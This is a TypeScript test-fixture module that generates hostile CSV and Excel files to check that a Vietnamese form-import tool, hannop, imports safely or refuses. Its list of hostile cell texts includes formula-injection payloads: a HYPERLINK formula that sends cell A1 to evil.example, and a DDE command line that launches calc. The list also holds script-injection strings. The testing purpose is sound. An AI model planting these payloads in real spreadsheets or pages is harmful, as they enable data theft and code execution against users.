// Hostile files, whole, for the property suites (hostile-csv, hostile-workbook): what a careless
// export, a wrong save, or someone trying to abuse hannop hands to `import`, `run`, `check` and
// `status`. Each file is a model (what it means) and its bytes (what is on disk), so a test knows
// what the right answer is: the rows imported, or the refusal and its Vietnamese sentence.
import { createHash } from 'node:crypto';
import * as ExcelJS from 'exceljs';
import fc from 'fast-check';
import type { FormKind } from '../../src/domain/campaign';
import { PLAN_FORM, REPORT_FORM, responseColumns } from '../../src/domain/forms';
import { GOOD_PLAN, GOOD_REPORT } from '../domain/forms/form-fixture';

/**
 * The seed of every hostile-file property: a failure prints its seed and path, and the same seed
 * (with `path` from the failure) replays it: `fc.assert(…, { seed: HOSTILE_SEED, path, numRuns })`.
 * HOSTILE_SEED=… in the environment explores other files; the committed seed stays fixed so CI runs
 * the same files every time.
 */
export const HOSTILE_SEED = Number(process.env.HOSTILE_SEED ?? 20261203);

/** `numRuns` as the suite sets it, or more to explore: HOSTILE_RUNS=500 npx jest test/node/hostile-csv.test.ts */
export function hostileRuns(numRuns: number): number {
  return Number(process.env.HOSTILE_RUNS ?? numRuns);
}

/** Text that means harm or trouble in a cell: formula triggers, HTML, invisible and control characters. */
export const HOSTILE_TEXTS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  "=cmd|' /C calc'!A0",
  '+84 901 234 567',
  '+SUM(A1:A9)',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  ' =1+1',
  '<script>alert("x")</script>',
  '<img src=x onerror=alert(1)>',
  '</td></tr></table><h1>Giả mạo</h1>',
  '&lt;b&gt; &amp;',
  'Mầm non \u202eHoa Mai\u202c',
  'Hoa\u200bMai\u200d',
  '\u2066Kế hoạch\u2069',
  '\ufeffđầu BOM',
  'C0 \u0001\u0007\u001b[31mđỏ\u001b[0m',
  'C1 \u0085\u009b31m',
  'Nói "to" và ""rõ""',
  '"',
  '""',
  'dấu, phẩy; chấm phẩy\ttab',
  'dòng 1\ndòng 2',
  'dòng 1\r\ndòng 2\rdòng 3',
  '_x0041_ và _x000D_',
  'phi ký tự \ufffe\uffff',
  '\ud83d\ude00 emoji',
  'Mầm non'.normalize('NFD'),
  '   ',
  '',
];

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom('=', '+', '-', '@')
      .chain((trigger) => fc.string({ maxLength: 20 }).map((tail) => `${trigger}${tail}`)),
  },
);

/** A cell over a spreadsheet's limit: Excel holds 32,767 characters, Google Sheets 50,000. */
export const hugeText: fc.Arbitrary<string> = fc
  .constantFrom(32768, 50001)
  .map((length) => 'Rất dài. '.repeat(Math.ceil(length / 9)).slice(0, length));

/** `arbitrary` one time in eight, null otherwise. */
function rarely<T>(arbitrary: fc.Arbitrary<T>): fc.Arbitrary<T | null> {
  return fc.oneof({ weight: 7, arbitrary: fc.constant(null) }, { weight: 1, arbitrary });
}

export type Encoding =
  | 'utf8'
  | 'utf8-bom'
  | 'utf16le-bom'
  | 'utf16le'
  | 'utf16be-bom'
  | 'utf16be'
  | 'windows-1258'
  | 'invalid-utf8';

export type HeaderShape = 'right' | 'other-form' | 'typo' | 'missing' | 'duplicate' | 'extra' | 'only-header';
export type Quoting = 'minimal' | 'all' | 'unclosed' | 'bare-quote';

export interface CsvModel {
  /** The form asked for (`--form`). */
  readonly form: FormKind;
  readonly encoding: Encoding;
  readonly newline: '\r\n' | '\n' | '\r';
  readonly header: HeaderShape;
  readonly quoting: Quoting;
  /** Answers replaced by hostile text, by row: question index → text. */
  readonly rows: readonly (readonly { readonly question: number; readonly text: string }[])[];
  /** A hostile timestamp (the row cannot be read). */
  readonly badTimestampRow: number | null;
  /** A cell over Excel's limit at row / question. */
  readonly huge: { readonly row: number; readonly question: number; readonly text: string } | null;
}

const SPECS = { plan: PLAN_FORM, report: REPORT_FORM } as const;
const GOOD = { plan: GOOD_PLAN, report: GOOD_REPORT } as const;

export const csvModel: fc.Arbitrary<CsvModel> = fc
  .record({
    form: fc.constantFrom<FormKind>('plan', 'report'),
    encoding: fc.oneof(
      { weight: 6, arbitrary: fc.constantFrom<Encoding>('utf8', 'utf8-bom') },
      {
        weight: 3,
        arbitrary: fc.constantFrom<Encoding>(
          'utf16le-bom',
          'utf16le',
          'utf16be-bom',
          'utf16be',
          'windows-1258',
          'invalid-utf8',
        ),
      },
    ),
    newline: fc.constantFrom<CsvModel['newline']>('\r\n', '\n', '\r'),
    header: fc.oneof(
      { weight: 6, arbitrary: fc.constant<HeaderShape>('right') },
      {
        weight: 4,
        arbitrary: fc.constantFrom<HeaderShape>(
          'other-form',
          'typo',
          'missing',
          'duplicate',
          'extra',
          'only-header',
        ),
      },
    ),
    quoting: fc.oneof(
      { weight: 6, arbitrary: fc.constantFrom<Quoting>('minimal', 'all') },
      { weight: 2, arbitrary: fc.constantFrom<Quoting>('unclosed', 'bare-quote') },
    ),
    rows: fc.array(
      fc.array(fc.record({ question: fc.nat({ max: 40 }), text: hostileText }), { maxLength: 4 }),
      { minLength: 1, maxLength: 4 },
    ),
    badTimestamp: rarely(fc.nat({ max: 3 })),
    huge: rarely(fc.record({ row: fc.nat({ max: 3 }), question: fc.nat({ max: 40 }), text: hugeText })),
  })
  .map(({ badTimestamp, ...model }) => ({
    ...model,
    badTimestampRow: badTimestamp === null ? null : badTimestamp % model.rows.length,
    huge: model.huge && { ...model.huge, row: model.huge.row % model.rows.length },
  }));

/** The header line as the model shapes it, and the column of each question (or -1 when absent). */
function headerOf(model: CsvModel): { headers: string[]; columnOfQuestion: number[] } {
  const spec = SPECS[model.form];
  const right = responseColumns(spec);
  const count = spec.questions.length;
  const identity = spec.questions.map((_, index) => index + 2);
  const firstRequired = spec.questions.findIndex((question) => question.required);
  switch (model.header) {
    case 'other-form': {
      const other = responseColumns(SPECS[model.form === 'plan' ? 'report' : 'plan']);
      return { headers: other, columnOfQuestion: spec.questions.map(() => -1) };
    }
    case 'typo':
      return {
        headers: right.map((title, index) => (index === firstRequired + 2 ? `${title}x` : title)),
        columnOfQuestion: identity.map((column, index) => (index === firstRequired ? -1 : column)),
      };
    case 'missing':
      return {
        headers: right.filter((_, index) => index !== firstRequired + 2),
        columnOfQuestion: identity.map((column, index) =>
          index === firstRequired ? -1 : index > firstRequired ? column - 1 : column,
        ),
      };
    case 'duplicate':
      // The last question's column twice, the second copy holding other answers.
      return { headers: [...right, right[count + 1] as string], columnOfQuestion: identity };
    case 'extra':
      return { headers: [...right, 'Điểm', '=1+1', '<b>cột</b>'], columnOfQuestion: identity };
    default:
      return { headers: right, columnOfQuestion: identity };
  }
}

export interface CsvFile {
  readonly bytes: Buffer;
  /** The text before encoding. */
  readonly text: string;
  /** What the rows hold, question by question (the answers a correct import stores). */
  readonly answers: readonly (readonly string[])[];
  readonly timestamps: readonly string[];
  readonly headers: readonly string[];
}

/** Rows as CSV: every field quoted, or only those that need it (as Google's export does). */
function csvText(rows: readonly (readonly string[])[], newline: string, quoteEvery: boolean): string {
  const field = (cell: string) =>
    quoteEvery || /[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell;
  return rows.map((row) => row.map(field).join(',')).join(newline) + newline;
}

/** The file's text: the model's rows under its header, quoted as it says. */
export function csvFileOf(model: CsvModel): CsvFile {
  const spec = SPECS[model.form];
  const { headers, columnOfQuestion } = headerOf(model);
  const answers = model.rows.map((changes, rowIndex) => {
    const row = spec.questions.map((question) => String(GOOD[model.form][question.key] ?? ''));
    for (const change of changes) row[change.question % row.length] = change.text;
    if (model.huge && model.huge.row === rowIndex) row[model.huge.question % row.length] = model.huge.text;
    return row;
  });
  const timestamps = model.rows.map((_, index) =>
    index === model.badTimestampRow ? '=NOW()' : `28/03/2023 09:${String(10 + index).padStart(2, '0')}:00`,
  );
  const rows = answers.map((row, index) => {
    const cells = headers.map(() => '');
    cells[0] = timestamps[index] as string;
    cells[1] = 'mnhm@truong.example.edu.vn';
    columnOfQuestion.forEach((column, question) => {
      if (column >= 0) cells[column] = row[question] as string;
    });
    if (model.header === 'duplicate') cells[headers.length - 1] = 'một câu trả lời khác';
    if (model.header === 'extra') cells.splice(headers.length - 3, 3, '10', '=1+1', '<i>x</i>');
    return cells;
  });
  const all = model.header === 'only-header' ? [headers] : [headers, ...rows];
  let text = csvText(all, model.newline, model.quoting === 'all');
  if (model.quoting === 'unclosed') text = `${text.replace(/[\r\n]+$/, '')},"không đóng${model.newline}`;
  if (model.quoting === 'bare-quote') text = `${text.replace(/[\r\n]+$/, '')},5" màn hình${model.newline}`;
  return { bytes: encode(text, model.encoding), text, answers, timestamps, headers };
}

/** Windows-1258 as a Vietnamese PC of the 2000s saves: precomposed where the code page has it, else base + tone mark. */
const WINDOWS_1258 = (() => {
  const decoder = new TextDecoder('windows-1258');
  const map = new Map<string, number>();
  for (let byte = 0x80; byte <= 0xff; byte += 1) {
    const char = decoder.decode(Uint8Array.of(byte));
    if (char !== '\ufffd' && !map.has(char)) map.set(char, byte);
  }
  return map;
})();

function windows1258(text: string): Buffer {
  const bytes: number[] = [];
  for (const char of text.normalize('NFC')) {
    const code = char.codePointAt(0) as number;
    if (code < 0x80) bytes.push(code);
    else if (WINDOWS_1258.has(char)) bytes.push(WINDOWS_1258.get(char) as number);
    else
      for (const part of char.normalize('NFD'))
        bytes.push(part.charCodeAt(0) < 0x80 ? part.charCodeAt(0) : (WINDOWS_1258.get(part) ?? 0x3f));
  }
  return Buffer.from(bytes);
}

function utf16(text: string, order: 'le' | 'be', bom: boolean): Buffer {
  const le = Buffer.from(`${bom ? '\ufeff' : ''}${text}`, 'utf16le');
  if (order === 'le') return le;
  const be = Buffer.alloc(le.length);
  for (let index = 0; index + 1 < le.length; index += 2) {
    be[index] = le[index + 1] as number;
    be[index + 1] = le[index] as number;
  }
  return be;
}

export function encode(text: string, encoding: Encoding): Buffer {
  switch (encoding) {
    case 'utf8-bom':
      return Buffer.from(`\ufeff${text}`, 'utf8');
    case 'utf16le-bom':
      return utf16(text, 'le', true);
    case 'utf16le':
      return utf16(text, 'le', false);
    case 'utf16be-bom':
      return utf16(text, 'be', true);
    case 'utf16be':
      return utf16(text, 'be', false);
    case 'windows-1258':
      return windows1258(text);
    case 'invalid-utf8': {
      // A byte that starts a sequence, then ASCII: what a truncated or mis-saved file holds.
      const bytes = Buffer.from(text, 'utf8');
      const middle = Math.floor(bytes.length / 2);
      return Buffer.concat([bytes.subarray(0, middle), Buffer.from([0xc3, 0x28]), bytes.subarray(middle)]);
    }
    default:
      return Buffer.from(text, 'utf8');
  }
}

/** What exceljs keeps of a string in a cell: XML 1.0 drops C0 controls and reads CR as LF. */
export function storedInXlsx(text: string): string {
  // A lone surrogate was written to the CSV file as U+FFFD already.
  return (
    Buffer.from(text, 'utf8')
      .toString('utf8')
      // eslint-disable-next-line no-control-regex
      .replace(/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe\uffff]/g, '')
      .replace(/\r\n?/g, '\n')
  );
}

export function sha256(bytes: Uint8Array): string {
  return createHash('sha256').update(bytes).digest('hex');
}

/** A Vietnamese sentence: what every refusal must be (a letter with a Vietnamese diacritic in it). */
export const VIETNAMESE = /[ăâđêôơưàáảãạằắẳẵặầấẩẫậèéẻẽẹềếểễệìíỉĩịòóỏõọồốổỗộờớởỡợùúủũụừứửữựỳýỷỹỵ]/i;

export interface FormulaCell {
  readonly sheet: string;
  readonly address: string;
  readonly formula: string;
}

/** Every formula cell of a saved workbook (a formula, a shared formula, an array formula). */
export async function formulaCells(bytes: Uint8Array): Promise<FormulaCell[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const found: FormulaCell[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) {
          found.push({ sheet: sheet.name, address: cell.address, formula: String(cell.formula) });
        }
      }),
    ),
  );
  return found;
}

/** Formula cells of `after` that `before` did not have: any is a formula hannop wrote. */
export async function newFormulaCells(before: Uint8Array, after: Uint8Array): Promise<FormulaCell[]> {
  const known = new Set(
    (await formulaCells(before)).map((cell) => `${cell.sheet}!${cell.address}=${cell.formula}`),
  );
  return (await formulaCells(after)).filter(
    (cell) => !known.has(`${cell.sheet}!${cell.address}=${cell.formula}`),
  );
}
